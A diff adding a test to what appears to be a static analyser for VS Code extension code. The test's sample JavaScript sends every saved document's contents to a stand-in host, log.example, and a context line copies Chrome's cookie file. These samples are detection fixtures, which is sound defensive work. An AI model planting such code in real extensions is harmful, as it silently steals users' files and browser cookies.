@@ -51,6 +51,19 @@ class ListsAndFilesTest {
     }
 
     @Test
+    void followsAFileThatIsRenamedBeforeItIsRead() {
+        Analysis analysis = Analysis.ofActivate("""
+                vscode.workspace.onDidSaveTextDocument(saved => fs.appendFileSync('/tmp/log', saved.getText()));
+                setInterval(() => {
+                  fs.renameSync('/tmp/log', '/tmp/log.1');
+                  fetch('https://log.example/l', { method: 'PUT', body: fs.readFileSync('/tmp/log.1') });
+                }, 60000);
+                """);
+
+        assertThat(analysis.destinations("editor-document", "network-send")).containsExactly("https://log.example/l");
+    }
+
+    @Test
     void doesNotMistakeAnotherFileForTheCopy() {
         Analysis analysis = Analysis.ofActivate("""
                 fs.copyFileSync(os.homedir() + '/.config/google-chrome/Default/Cookies', '/tmp/c');
